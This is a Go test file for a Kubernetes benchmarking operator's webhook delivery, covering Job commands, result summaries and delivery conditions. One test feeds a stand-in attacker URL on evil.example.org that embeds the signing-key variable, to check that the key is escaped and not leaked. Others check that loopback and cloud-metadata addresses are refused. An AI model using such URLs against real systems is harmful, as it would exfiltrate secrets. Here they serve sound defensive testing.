package delivery

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/google/go-cmp/cmp"
	batchv1 "k8s.io/api/batch/v1"
	corev1 "k8s.io/api/core/v1"
	"k8s.io/apimachinery/pkg/api/resource"
	metav1 "k8s.io/apimachinery/pkg/apis/meta/v1"

	"github.com/benchnet/benchnet/api/v1alpha1"
)

// newEndedRun returns a run with a webhook, as the operator completes it.
func newEndedRun(hook *v1alpha1.Webhook) *v1alpha1.BenchmarkRun {
	run := newRun("http://minio:9000")
	run.Spec.Delivery.Webhook = hook
	ended := metav1.NewTime(time.Date(2026, 5, 4, 3, 2, 1, 0, time.UTC))
	run.Status = v1alpha1.BenchmarkRunStatus{Verdict: v1alpha1.VerdictValid, CompletionTime: &ended, Unit: "flows",
		ThroughputMilliPerSecond: new(int64(58_700)), Operations: &v1alpha1.OperationCounts{Completed: 3500, Failed: 22},
		LatencyMicroseconds: &v1alpha1.LatencySummary{P50: new(int64(120_000)), P95: new(int64(291_800))},
		Conditions:          []metav1.Condition{{Type: v1alpha1.ConditionComplete, Status: metav1.ConditionTrue, Message: "58.7 flows/s over 60 s, verdict Valid"}}}
	return run
}

// addGates adds the condition GatesPassed.
func addGates(conditions *[]metav1.Condition, status metav1.ConditionStatus, reason, message string) {
	*conditions = append(*conditions, metav1.Condition{Type: v1alpha1.ConditionGatesPassed, Status: status, Reason: reason, Message: message})
}

func TestBuildRunWebhook(t *testing.T) {
	objects, err := BuildRunWebhook(newEndedRun(&v1alpha1.Webhook{URL: "https://ci.example.org/hooks", SecretName: "hook"}), "agent:1")
	if err != nil {
		t.Fatal(err)
	}
	var document Document
	if err := json.Unmarshal([]byte(objects[0].(*corev1.ConfigMap).Data["document.json"]), &document); err != nil || document.Name != "pay" {
		t.Errorf("document %+v, %v", document, err)
	}
	template := &objects[2].(*batchv1.Job).Spec.Template
	wantRestricted(t, template)
	container := template.Spec.Containers[0]
	want := "/agent notify --url https://ci.example.org/hooks --id u-1 /etc/benchnet/files/document.json"
	if command := strings.Join(container.Command, " "); command != want {
		t.Errorf("command %s, want %s", command, want)
	}
	if len(container.Env) != 2 || container.Env[0].ValueFrom.SecretKeyRef.Name != "hook" || container.Env[0].ValueFrom.SecretKeyRef.Optional != nil {
		t.Errorf("variables %+v", container.Env)
	}
}

// TestWebhookHidesTheKey checks that the kubelet puts no variable into the URL, such as the signing key.
func TestWebhookHidesTheKey(t *testing.T) {
	objects, err := BuildRunWebhook(newEndedRun(&v1alpha1.Webhook{URL: "http://evil.example.org/$(BENCHNET_SIGNING_KEY)/$$(X)", SecretName: "hook"}), "agent:1")
	if err != nil {
		t.Fatal(err)
	}
	const want = "http://evil.example.org/$$(BENCHNET_SIGNING_KEY)/$$$$(X)"
	if got := objects[2].(*batchv1.Job).Spec.Template.Spec.Containers[0].Command[3]; got != want {
		t.Errorf("URL %s, want %s", got, want)
	}
}

// TestUnusableURLs checks that errors of a URL, which a retry cannot remove, have the type that ends a delivery.
func TestUnusableURLs(t *testing.T) {
	for url, want := range map[string]string{"http://a%zz/": `"http://a%zz/" must be a URL such as https://example.org`, "https:///x": "must be a URL",
		"http://a:0/": "port 0 must be from 1 to 65535", "http://a:65536/": "port 65536 must be", "http://127.0.0.1/": "127.0.0.1 is refused: it is the pod itself"} {
		t.Run(url, func(t *testing.T) {
			_, err := BuildRunWebhook(newEndedRun(&v1alpha1.Webhook{URL: url}), "agent:1")
			var invalid *URLError
			if !errors.As(err, &invalid) || invalid.Field != "spec.delivery.webhook.url" || !strings.Contains(err.Error(), want) {
				t.Errorf("got %v, want a URLError with %q", err, want)
			}
		})
	}
}

func TestBuildWebhookWithoutSecret(t *testing.T) {
	e := &v1alpha1.BenchmarkExperiment{ObjectMeta: metav1.ObjectMeta{Namespace: "lab", Name: "sizes", UID: "u-2"},
		Spec: v1alpha1.BenchmarkExperimentSpec{Delivery: v1alpha1.ExperimentDelivery{Webhook: &v1alpha1.Webhook{URL: "http://10.1.2.3:8080/x"}}}}
	objects, err := BuildExperimentWebhook(e, "agent:1")
	if err != nil {
		t.Fatal(err)
	}
	if got := objects[2].(*batchv1.Job).Spec.Template.Spec.Containers[0].Env; len(got) > 0 {
		t.Errorf("variables %+v", got)
	}
	e.Spec.Delivery.Webhook.URL = "http://169.254.169.254/"
	if _, err := BuildExperimentWebhook(e, "agent:1"); err == nil || !strings.HasPrefix(err.Error(), "spec.delivery.webhook.url: 169.254.169.254 is ") {
		t.Errorf("got %v", err)
	}
}

func TestDescribeRun(t *testing.T) {
	run := newEndedRun(nil)
	want := Document{APIVersion: "benchnet.dev/v1alpha1", Kind: "BenchmarkRun", Namespace: "lab", Name: "pay", UID: "u-1", Verdict: "Valid", Gates: "None",
		Message: "58.7 flows/s over 60 s, verdict Valid", Time: run.Status.CompletionTime,
		Figures: []Figure{{Name: "Throughput", Value: 58.7, Unit: "flows/s"}, {Name: "Requests", Value: 3522}, {Name: "Errors", Value: 22},
			{Name: "LatencyP50", Value: 120, Unit: "ms"}, {Name: "LatencyP95", Value: 291.8, Unit: "ms"}}}
	if diff := cmp.Diff(want, DescribeRun(run)); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
	for reason, verdict := range map[string]string{v1alpha1.ReasonCancelled: "Cancelled", v1alpha1.ReasonRunFailed: "Failed", v1alpha1.ReasonInvalidSpec: "Failed"} {
		run.Status.Verdict, run.Status.Conditions[0].Reason = "", reason
		if got := DescribeRun(run); got.Verdict != verdict || len(got.Figures) != 0 {
			t.Errorf("%s: the document of a run without a result is %+v", reason, got)
		}
	}
}

func TestDescribeExperiment(t *testing.T) {
	e := &v1alpha1.BenchmarkExperiment{ObjectMeta: metav1.ObjectMeta{Namespace: "lab", Name: "sizes", UID: "u-2"}, Status: v1alpha1.BenchmarkExperimentStatus{
		Conditions: []metav1.Condition{{Type: v1alpha1.ConditionReady, Status: metav1.ConditionTrue}}, RunsEnded: 9,
		Points: []v1alpha1.PointStatus{{Name: "p01", ThroughputMilliPerSecond: new(int64(5000))},
			{Name: "p02", ThroughputMilliPerSecond: new(int64(9930)), P95LatencyMicroseconds: new(int64(940_800)), RunsInvalid: 1}, {Name: "p03", RunsInvalid: 3}},
		Saturation: []v1alpha1.SaturationStatus{{Name: "template", Load: resource.MustParse("40")}}}}
	addGates(&e.Status.Conditions, metav1.ConditionFalse, v1alpha1.ReasonGateFailed, "point p02: p95 is 940.8 ms")
	want := Document{APIVersion: "benchnet.dev/v1alpha1", Kind: "BenchmarkExperiment", Namespace: "lab", Name: "sizes", UID: "u-2", Verdict: "Complete",
		Gates: "Failed", Message: "point p02: p95 is 940.8 ms",
		Figures: []Figure{{Name: "Runs", Value: 9}, {Name: "RunsInvalid", Value: 4}, {Name: "HighestThroughput", Subject: "p02", Value: 9.93, Unit: "1/s"},
			{Name: "LatencyP95", Subject: "p02", Value: 940.8, Unit: "ms"}, {Name: "SaturationLoad", Subject: "template", Value: 40}}}
	if diff := cmp.Diff(want, DescribeExperiment(e)); diff != "" {
		t.Errorf("-want +got:\n%s", diff)
	}
	e.Status.Conditions[0].Status = metav1.ConditionFalse
	if got := DescribeExperiment(e).Verdict; got != "Failed" {
		t.Errorf("an experiment that stopped has the verdict %s", got)
	}
}

func TestIsDue(t *testing.T) {
	for name, test := range map[string]struct {
		status metav1.ConditionStatus
		reason string
		gates  string
		due    bool
	}{
		"no gates":            {metav1.ConditionUnknown, v1alpha1.ReasonNoGates, "None", false},
		"passed":              {metav1.ConditionTrue, v1alpha1.ReasonGatesPassed, "Passed", false},
		"failed":              {metav1.ConditionFalse, v1alpha1.ReasonGateFailed, "Failed", true},
		"undecided":           {metav1.ConditionFalse, v1alpha1.ReasonGateUndecided, "Undecided", true},
		"run without results": {metav1.ConditionUnknown, v1alpha1.ReasonMeasuring, "Undecided", true},
	} {
		t.Run(name, func(t *testing.T) {
			run := newEndedRun(nil)
			addGates(&run.Status.Conditions, test.status, test.reason, "")
			document := DescribeRun(run)
			if document.Gates != test.gates {
				t.Errorf("gates %s, want %s", document.Gates, test.gates)
			}
			if got := document.IsDue(&v1alpha1.Webhook{When: v1alpha1.WebhookGatesNotPassed}); got != test.due {
				t.Errorf("due: %t, want %t", got, test.due)
			}
			if !document.IsDue(&v1alpha1.Webhook{When: v1alpha1.WebhookEnded}) {
				t.Error("every end should be due")
			}
		})
	}
}
